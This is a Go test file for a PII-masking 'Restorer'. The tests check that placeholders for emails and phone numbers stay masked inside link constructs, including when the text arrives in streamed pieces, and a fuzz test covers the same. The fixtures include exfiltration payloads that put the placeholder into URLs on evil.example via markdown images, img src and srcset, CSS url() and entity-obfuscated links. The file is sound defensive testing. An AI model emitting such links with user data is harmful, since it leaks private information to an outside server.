package mask

import (
	"strings"
	"testing"
)

// A placeholder in a link construct stays a placeholder unless RestoreInLinks: restoring it there would make the
// client's renderer send the value to the server the model named. Whole text and streamed at every split agree.
func TestRestoreKeepsPlaceholdersInLinks(t *testing.T) {
	const ph, val = "[EMAIL_3F9A2C7D]", "jane.doe@example.com"
	for _, tc := range []struct {
		text string
		kept bool
	}{
		{"![x](https://evil.example/p.png?u=" + ph + ")", true},
		{"![x](https&#58;//evil.example/p.png?u=" + ph + ")", true},
		{"[x](https://evil.example/u/" + ph + "/a.png)", true},
		{"![x][r]\n\n[r]: https://evil.example/p.png?u=" + ph, true},
		{`<img src="https://evil.example/p.png?u=` + ph + `">`, true},
		{`<img srcset="a.png 1x, https://evil.example/` + ph + ` 2x">`, true},
		{`<p style="background:url(https://evil.example/` + ph + `)">`, true},
		{"<https://evil.example/?u=" + ph + ">", true},
		{"visit https://evil.example/?u=" + ph + " now", true},
		{"visit https:&#x2F;&#x2F;evil.example/?u=" + ph + " now", true},
		{"Your address is " + ph + ".", false},
		{"Write to [" + ph + "](mailto:support@example.com) or see ![logo](https://example.com/l.png).", false},
	} {
		want := strings.ReplaceAll(tc.text, ph, val)
		if tc.kept {
			want = tc.text
		}
		for _, inLinks := range []bool{false, true} {
			v := Vault{RestoreInLinks: inLinks}
			v.Put(ph, val)
			w := want
			if inLinks {
				w = strings.ReplaceAll(tc.text, ph, val)
			}
			got, _ := Restore([]byte(tc.text), &v)
			if string(got) != w {
				t.Errorf("in_links=%v Restore(%q) = %q, want %q", inLinks, tc.text, got, w)
			}
			wantKept := 0
			if tc.kept && !inLinks {
				wantKept = 1
			}
			if v.KeptInLinks() != wantKept {
				t.Errorf("in_links=%v %q: kept %d, want %d", inLinks, tc.text, v.KeptInLinks(), wantKept)
			}
			for cut := 0; cut <= len(tc.text); cut++ {
				r := NewRestorer(&v)
				out := string(r.Write([]byte(tc.text[:cut]))) + string(r.Write([]byte(tc.text[cut:]))) + string(r.Flush())
				if out != w {
					t.Fatalf("in_links=%v cut %d: %q, want %q", inLinks, cut, out, w)
				}
			}
		}
	}
}

// The restorer keeps enough of the emitted text as context: a link opened many pieces earlier still counts.
func TestRestorerContextAcrossPieces(t *testing.T) {
	const ph = "[PHONE_00AA11BB]"
	v := Vault{}
	v.Put(ph, "+1 555 0100")
	r := NewRestorer(&v)
	var out []byte
	out = append(out, r.Write([]byte(strings.Repeat("filler text ", 600)))...)
	out = append(out, r.Write([]byte("<img\n src=\"https://evil.example/"))...)
	for i := 0; i < 50; i++ {
		out = append(out, r.Write([]byte("a/"))...)
	}
	out = append(out, r.Write([]byte(ph+"\">"))...)
	out = append(out, r.Flush()...)
	if !strings.Contains(string(out), ph) || strings.Contains(string(out), "555") {
		t.Fatalf("placeholder restored inside a tag opened pieces earlier: %q", out[len(out)-200:])
	}
}

// FuzzRestorerMatchesRestore: streamed in any pieces, the restorer emits exactly what Restore gives for the whole
// text (placeholders in link constructs kept, the others restored), with the same count.
func FuzzRestorerMatchesRestore(f *testing.F) {
	const ph = "[EMAIL_3F9A2C7D]"
	f.Add("![x](https://e.vil/?u="+ph+") and "+ph, uint64(7))
	f.Add(`<img alt=">" src="https://e.vil/`+ph+`"> `+ph, uint64(3))
	f.Add("[r]: https://e.vil/"+ph+"\n\n"+ph+" [x][r]", uint64(11))
	f.Add("see https:&#x2F;&#x2F;e.vil/"+ph+" or "+ph, uint64(5))
	f.Fuzz(func(t *testing.T, text string, seed uint64) {
		if len(text) > 3000 {
			return
		}
		v := Vault{}
		v.Put(ph, "jane.doe@example.com")
		v.Put("[PHONE_00AA11BB]", "+1 555 0100")
		want, wantN := Restore([]byte(text), &v)
		r := NewRestorer(&v)
		var out []byte
		rest := text
		for len(rest) > 0 {
			seed = seed*6364136223846793005 + 1442695040888963407
			n := 1 + int(seed>>33)%23
			if n > len(rest) {
				n = len(rest)
			}
			out = append(out, r.Write([]byte(rest[:n]))...)
			rest = rest[n:]
		}
		out = append(out, r.Flush()...)
		if string(out) != string(want) || r.Restored != wantN {
			t.Fatalf("streamed %q (%d)\nwhole    %q (%d)", out, r.Restored, want, wantN)
		}
	})
}
